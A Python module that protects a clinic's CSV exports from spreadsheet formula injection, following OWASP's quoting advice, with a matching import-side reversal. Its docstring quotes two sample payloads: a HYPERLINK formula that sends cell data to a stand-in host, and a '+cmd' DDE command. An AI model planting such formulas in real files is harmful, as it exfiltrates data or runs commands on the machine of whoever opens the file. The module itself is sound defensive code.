"""Cells of a CSV file that a spreadsheet will open: text, never a formula.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, so a patient registered as ``=HYPERLINK("http://x/?"&B2, "Click")``
or ``+cmd|' /C calc'!A0`` would turn the clinic's own export into an attack on whoever opens it.
OWASP's advice (CSV Injection, https://owasp.org/www-community/attacks/CSV_Injection) is followed
as written: a cell that starts with one of ``= + - @``, a tab (0x09) or a carriage return (0x0D) is
written with a single quote before it, which makes the spreadsheet show it as text. Plain numbers
(``-5``, ``+3.2``, ``12.5%``, the E.164 phone ``+15551234567``) are left as they are: a spreadsheet
reads them as numbers, which is what they are, and none of them can be a formula.

What is stored is always what was typed; only the file written is changed. A file this software
wrote can be imported again (an export edited in a spreadsheet, a corrected rejects file), so the
import undoes exactly this change (``as_typed``): ``'=x`` comes back as ``=x``, and a round trip
through export and import neither loses the formula-looking text nor grows a quote each time. A
cell someone typed as ``'=x`` on purpose (a quote the import would take off) is written with one
more quote, ``''=x``, so that it too comes back exactly as typed.
"""

from __future__ import annotations

import re

#: The first characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def is_plain_number(text: str) -> bool:
    """``-5``, ``+3.2``, ``1e-3``, ``12.5%``: a number and nothing else."""
    return _PLAIN_NUMBER.fullmatch(text) is not None


def spreadsheet_safe(text: str) -> str:
    """The cell as a CSV file holds it: a leading formula character is quoted away (see the module
    docstring), and so is a leading quote the import would otherwise take off; plain numbers and
    everything else unchanged."""
    formula = text.startswith(FORMULA_TRIGGERS) and not is_plain_number(text)
    if formula or (text.startswith(PREFIX) and as_typed(text) != text):
        return PREFIX + text
    return text


def as_typed(text: str) -> str:
    """The inverse of ``spreadsheet_safe`` for a cell read back from a file: ``'=x`` -> ``=x``.
    Only a quote that ``spreadsheet_safe`` would have added is removed (``'-5`` and ``'abc`` stay)."""
    if text.startswith(PREFIX) and spreadsheet_safe(text[1:]) == text:
        return text[1:]
    return text
